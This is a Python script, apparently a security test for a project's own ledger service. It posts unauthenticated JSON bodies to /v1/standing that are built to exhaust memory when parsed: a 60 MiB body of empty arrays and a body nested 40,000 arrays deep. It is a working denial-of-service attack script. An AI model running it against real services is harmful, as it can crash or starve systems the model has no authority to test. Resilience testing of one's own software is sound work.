"""Attacker for attack 2 of issue 32: ``POST /v1/standing`` with bodies built to cost the ledger
memory when parsed, run as its own process.

    python standing_bomb.py LEDGER_URL [--size BYTES]

Sends, with no key and no signature: ``size`` bytes (60 MiB) of ``{"peers": [[], [], ...]}`` (each
empty array is 3 bytes on the wire and a Python list of 56+ bytes once parsed), then a body that
fits any size limit but nests 40,000 arrays deep. Prints one JSON line: each status and error.
"""

from __future__ import annotations

import argparse
import http.client
import json
from urllib.parse import urlsplit


def post(url: str, body: bytes) -> tuple[int | None, str]:
    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=120)
    try:
        conn.putrequest("POST", "/v1/standing")
        conn.putheader("Content-Type", "application/json")
        conn.putheader("Content-Length", str(len(body)))
        conn.endheaders()
        view = memoryview(body)
        try:
            for i in range(0, len(body), 1 << 20):
                conn.send(view[i : i + (1 << 20)])
        except (BrokenPipeError, ConnectionResetError):
            pass  # the ledger refused before reading it all: its answer is still there to read
        try:
            resp = conn.getresponse()
            return resp.status, resp.read().decode(errors="replace")[:300]
        except (ConnectionError, http.client.HTTPException) as e:
            return None, f"{type(e).__name__}: {e}"
    finally:
        conn.close()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("--size", type=int, default=60 << 20)
    args = parser.parse_args()
    n = (args.size - len(b'{"peers":[]}')) // 3
    wide = b'{"peers":[' + b"[]," * (n - 1) + b"[]]}"
    deep = b'{"peers":' + b"[" * 40_000 + b"]" * 40_000 + b"}"
    status, text = post(args.url, wide)
    deep_status, deep_text = post(args.url, deep)
    print(json.dumps({"wide": {"bytes": len(wide), "status": status, "answer": text},
                      "deep": {"bytes": len(deep), "status": deep_status, "answer": deep_text}}), flush=True)


if __name__ == "__main__":
    main()
